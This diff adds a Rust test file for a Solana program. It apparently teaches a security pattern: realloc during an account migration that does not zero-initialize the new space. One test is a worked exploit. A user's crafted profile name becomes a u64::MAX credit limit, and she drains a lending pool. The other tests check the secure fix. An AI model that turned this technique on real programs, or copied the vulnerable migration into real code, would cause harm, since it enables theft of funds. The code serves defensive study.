@@ -0,0 +1,308 @@
+// Mollusk tests for Pattern 39
+/// # Pattern 39: Realloc Without Zero-Initialization — Mollusk Exploit Tests
+///
+/// The pool lends 10 SOL above its rent-exempt minimum. Alice and Mallory
+/// each have a version 1 profile. Mallory's 64-byte name starts with
+/// u64::MAX and eight zero bytes.
+///
+/// - Test 1: EXPLOIT — migrate_vulnerable grows Mallory's profile over her
+///   old name: her credit limit is u64::MAX, and she borrows all 10 SOL.
+/// - Test 2: SECURE — migrate_secure gives her a limit of 0, borrowing
+///   fails, and a second migration fails the version 1 layout check.
+/// - Test 3: SANITY — Alice migrates, the admin sets her limit to 2 SOL,
+///   and she borrows it.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    rent::Rent,
+};
+use test_harness::{account_discriminator, ix_discriminator, owned_account, Ledger};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("6VxprPsRdRqxBCX1sPUR82b1h6GmZ3bY8kQ1qXH12tmt");
+
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = 10_000_000_000;
+const SOL: u64 = 1_000_000_000;
+
+/// 8 discriminator + 32 admin + 1 bump.
+const POOL_LEN: usize = 41;
+const LIQUIDITY: u64 = 10 * SOL;
+
+// Error codes
+const CREDIT_LIMIT_EXCEEDED: u32 = 6000;
+const LAYOUT_MISMATCH: u32 = 6001;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// The pool's rent-exempt minimum, at Mollusk's default rent.
+fn reserve() -> u64 {
+    Rent::default().minimum_balance(POOL_LEN)
+}
+
+/// Serialize a Pool account: [8 disc][32 admin][1 bump]
+fn serialize_pool(admin: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(POOL_LEN);
+    data.extend_from_slice(&account_discriminator("Pool"));
+    data.extend_from_slice(admin.as_ref());
+    data.push(bump);
+    data
+}
+
+/// Serialize a version 1 profile: [1 version = 1][32 owner][64 name]
+fn serialize_profile_v1(owner: &Pubkey, name: &[u8; 64]) -> Vec<u8> {
+    let mut data = Vec::with_capacity(97);
+    data.push(1);
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(name);
+    data
+}
+
+/// Serialize a version 2 profile:
+///   [1 version = 2][32 owner][8 credit_limit][8 borrowed][32 name]
+fn serialize_profile_v2(owner: &Pubkey, credit_limit: u64, borrowed: u64, name: &[u8]) -> Vec<u8> {
+    let mut data = Vec::with_capacity(81);
+    data.push(2);
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&credit_limit.to_le_bytes());
+    data.extend_from_slice(&borrowed.to_le_bytes());
+    data.extend_from_slice(&name[..32]);
+    data
+}
+
+/// "alice", padded with zeroes.
+fn alice_name() -> [u8; 64] {
+    let mut name = [0u8; 64];
+    name[..5].copy_from_slice(b"alice");
+    name
+}
+
+/// u64::MAX, eight zero bytes, then "mallory": the first 16 bytes land on
+/// version 2's credit limit and amount borrowed.
+fn mallory_name() -> [u8; 64] {
+    let mut name = [0u8; 64];
+    name[..8].copy_from_slice(&u64::MAX.to_le_bytes());
+    name[16..23].copy_from_slice(b"mallory");
+    name
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+struct Setup {
+    pool: Pubkey,
+    admin: Pubkey,
+    alice: Pubkey,
+    mallory: Pubkey,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let (pool, pool_bump) = Pubkey::find_program_address(&[b"pool"], &PROGRAM_ID);
+        let admin = Pubkey::new_unique();
+        let alice = Pubkey::new_unique();
+        let mallory = Pubkey::new_unique();
+
+        let mut ledger = vec![
+            (
+                pool,
+                owned_account(
+                    &serialize_pool(&admin, pool_bump),
+                    reserve() + LIQUIDITY,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (admin, system_account()),
+        ];
+        for (user, name) in [(alice, alice_name()), (mallory, mallory_name())] {
+            ledger.push((
+                profile_address(&user),
+                owned_account(&serialize_profile_v1(&user, &name), RENT, &PROGRAM_ID),
+            ));
+            ledger.push((user, system_account()));
+        }
+
+        Self {
+            pool,
+            admin,
+            alice,
+            mallory,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    fn migrate(&self, name: &str, user: &Pubkey) -> Instruction {
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &ix_discriminator(name),
+            vec![
+                AccountMeta::new(profile_address(user), false),
+                AccountMeta::new_readonly(*user, true),
+            ],
+        )
+    }
+
+    fn set_credit_limit(&self, user: &Pubkey, limit: u64) -> Instruction {
+        let mut data = ix_discriminator("set_credit_limit").to_vec();
+        data.extend_from_slice(&limit.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.pool, false),
+                AccountMeta::new(profile_address(user), false),
+                AccountMeta::new_readonly(self.admin, true),
+            ],
+        )
+    }
+
+    fn borrow(&self, user: &Pubkey, amount: u64) -> Instruction {
+        let mut data = ix_discriminator("borrow").to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.pool, false),
+                AccountMeta::new(profile_address(user), false),
+                AccountMeta::new(*user, true),
+            ],
+        )
+    }
+}
+
+fn profile_address(user: &Pubkey) -> Pubkey {
+    Pubkey::find_program_address(&[b"profile", user.as_ref()], &PROGRAM_ID).0
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_old_name_becomes_credit_limit_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   1. Mallory: migrate_vulnerable
+    //   2. Mallory: borrow(10 SOL)
+    //
+    // Expected: step 1 SUCCEEDS with a credit limit of u64::MAX and 0
+    //           borrowed: the first 16 bytes of her old name. Step 2
+    //           SUCCEEDS and leaves the pool at its rent-exempt minimum.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "realloc_zero_init");
+    let mut s = Setup::new();
+    let (pool, mallory) = (s.pool, s.mallory);
+    let profile = profile_address(&mallory);
+    let name = mallory_name();
+
+    let ix = s.migrate("migrate_vulnerable", &mallory);
+    let migrated = serialize_profile_v2(&mallory, u64::MAX, 0, &name);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&profile).data(&migrated).build(),
+        ],
+    );
+
+    let ix = s.borrow(&mallory, LIQUIDITY);
+    let drained = serialize_profile_v2(&mallory, u64::MAX, LIQUIDITY, &name);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&pool).lamports(reserve()).build(),
+            Check::account(&mallory)
+                .lamports(WALLET + LIQUIDITY)
+                .build(),
+            Check::account(&profile).data(&drained).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_grown_fields_start_at_zero() {
+    // -----------------------------------------------------------------------
+    // SECURE:
+    //   1. Mallory: migrate_secure
+    //   2. Mallory: borrow(1 SOL)
+    //   3. Mallory: migrate_secure again
+    //
+    // Expected: step 1 SUCCEEDS with a credit limit of 0 and 0 borrowed.
+    //           Step 2 FAILS with CreditLimitExceeded (6000). Step 3 FAILS
+    //           with LayoutMismatch (6001): the profile is version 2.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "realloc_zero_init");
+    let mut s = Setup::new();
+    let mallory = s.mallory;
+    let profile = profile_address(&mallory);
+
+    let ix = s.migrate("migrate_secure", &mallory);
+    let migrated = serialize_profile_v2(&mallory, 0, 0, &mallory_name());
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&profile).data(&migrated).build(),
+        ],
+    );
+
+    let ix = s.borrow(&mallory, SOL);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(CREDIT_LIMIT_EXCEEDED))],
+    );
+
+    let ix = s.migrate("migrate_secure", &mallory);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(LAYOUT_MISMATCH))],
+    );
+}
+
+#[test]
+fn sanity_admin_sets_limit_after_migration_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY:
+    //   1. Alice: migrate_secure
+    //   2. Admin: set_credit_limit(Alice, 2 SOL)
+    //   3. Alice: borrow(2 SOL)
+    //
+    // Expected: all SUCCEED. Alice keeps "alice" as her name and ends with
+    //           2 SOL borrowed of a 2 SOL limit.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "realloc_zero_init");
+    let mut s = Setup::new();
+    let alice = s.alice;
+    let profile = profile_address(&alice);
+
+    let ix = s.migrate("migrate_secure", &alice);
+    s.ledger.step(&mollusk, &ix, &[Check::success()]);
+
+    let ix = s.set_credit_limit(&alice, 2 * SOL);
+    s.ledger.step(&mollusk, &ix, &[Check::success()]);
+
+    let ix = s.borrow(&alice, 2 * SOL);
+    let borrowed = serialize_profile_v2(&alice, 2 * SOL, 2 * SOL, &alice_name());
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&alice).lamports(WALLET + 2 * SOL).build(),
+            Check::account(&profile).data(&borrowed).build(),
+        ],
+    );
+}